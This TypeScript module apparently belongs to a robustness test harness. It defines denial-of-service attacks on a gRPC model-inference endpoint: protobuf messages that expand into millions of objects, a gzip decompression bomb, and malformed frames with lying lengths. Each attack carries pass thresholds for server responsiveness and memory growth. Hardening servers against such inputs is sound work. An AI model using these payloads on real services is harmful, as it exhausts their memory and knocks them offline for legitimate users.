/** Messages that are small on the wire and large once they are objects. */
import { gzipSync } from 'node:zlib'
import type { Attack } from '../attack.js'
import { call, field, open, repeat, varint } from '../wire.js'

const MIB = 2 ** 20

/** Fields of ModelInferRequest, and of its tensors and contents. */
const [INPUTS, OUTPUTS, RAW, PARAMETERS] = [5, 6, 7, 4] as const
const CONTENTS = 5

const typed = (contents: Uint8Array): Buffer =>
  Buffer.concat([
    field(1, Buffer.from('bools')),
    field(
      INPUTS,
      Buffer.concat([field(1, Buffer.from('x')), field(2, Buffer.from('BOOL')), field(CONTENTS, contents)]),
    ),
  ])

function nested(depth: number): Buffer {
  // Groups of an unknown field, one within the other.
  return Buffer.concat([Buffer.alloc(depth, 0x7b), Buffer.alloc(depth, 0x7c)])
}

const MESSAGES: Readonly<Record<string, () => Buffer>> = {
  'empty inputs': () => repeat(field(INPUTS, Buffer.alloc(0)), 80 * MIB),
  'empty outputs': () => repeat(field(OUTPUTS, Buffer.alloc(0)), 80 * MIB),
  'empty raw tensors': () => repeat(field(RAW, Buffer.alloc(0)), 80 * MIB),
  'map entries': () => repeat(field(PARAMETERS, Buffer.alloc(0)), 80 * MIB),
  'packed booleans': () => typed(field(1, Buffer.alloc(100 * MIB, 1))),
  'single booleans': () => typed(repeat(Buffer.of(8, 1), 100 * MIB)),
  'empty strings': () => typed(repeat(field(8, Buffer.alloc(0)), 100 * MIB)),
  'unknown fields': () => repeat(Buffer.of(0x78, 1), 100 * MIB),
  'a long name': () => field(1, Buffer.alloc(100 * MIB, 'x')),
  'a shape of many dimensions': () =>
    field(INPUTS, Buffer.concat([field(1, Buffer.from('x')), field(3, Buffer.alloc(80 * MIB, 1))])),
  'nested groups': () => nested(10 * MIB),
}

export const messages: Attack = {
  name: 'messages',
  what: 'messages of 20 to 100 MB that would become tens of millions of objects',
  promised: { answered: 0.9, probeMs: 1000, growthBytes: 700 * MIB },
  run: async (target, signal) => {
    const session = target.connect(signal)
    const kinds = Object.values(MESSAGES)
    for (let i = 0; !signal.aborted; i++) await call(session, (kinds[i % kinds.length] as () => Buffer)())
  },
}

/** Zeros, compressed a thousandfold: what they inflate to is known only then. */
export const compressed: Attack = {
  name: 'compressed',
  what: 'messages of 100 KB that inflate to 100 MB',
  promised: { answered: 0.9, probeMs: 1000, growthBytes: 700 * MIB },
  run: async (target, signal) => {
    const bomb = gzipSync(Buffer.alloc(100 * MIB))
    const lane = async (): Promise<void> => {
      const session = target.connect(signal)
      while (!signal.aborted && !session.destroyed) {
        await new Promise<void>((resolve) => {
          const stream = session.request({
            ':method': 'POST',
            ':path': '/inference.GRPCInferenceService/ModelInfer',
            'content-type': 'application/grpc',
            'grpc-encoding': 'gzip',
            te: 'trailers',
          })
          stream.on('error', () => undefined)
          stream.once('close', resolve)
          stream.resume()
          const prefix = Buffer.alloc(5)
          prefix[0] = 1
          prefix.writeUInt32BE(bomb.byteLength, 1)
          stream.end(Buffer.concat([prefix, bomb]))
        })
      }
    }
    await Promise.all([lane(), lane()])
  },
}

/** Frames that are no messages: lengths that lie, bytes at random, prefixes cut short. */
export const garbage: Attack = {
  name: 'garbage',
  what: 'random bytes, lying lengths and cut prefixes on hundreds of calls',
  promised: { answered: 0.9, probeMs: 1000, growthBytes: 256 * MIB },
  run: async (target, signal) => {
    let session = target.connect(signal)
    for (let i = 0; !signal.aborted; i++) {
      if (session.destroyed) session = target.connect(signal)
      const stream = open(session)
      const noise = Buffer.from(Uint8Array.from({ length: 1 + (i % 300) }, (_, k) => (i * 31 + k * 17) % 256))
      const closed = new Promise<void>((resolve) => stream.once('close', resolve))
      stream.resume()
      stream.end(i % 3 === 0 ? noise : Buffer.concat([Buffer.of(0), varint(i), noise]))
      await Promise.race([closed, new Promise((resolve) => setTimeout(resolve, 20))])
    }
  },
}
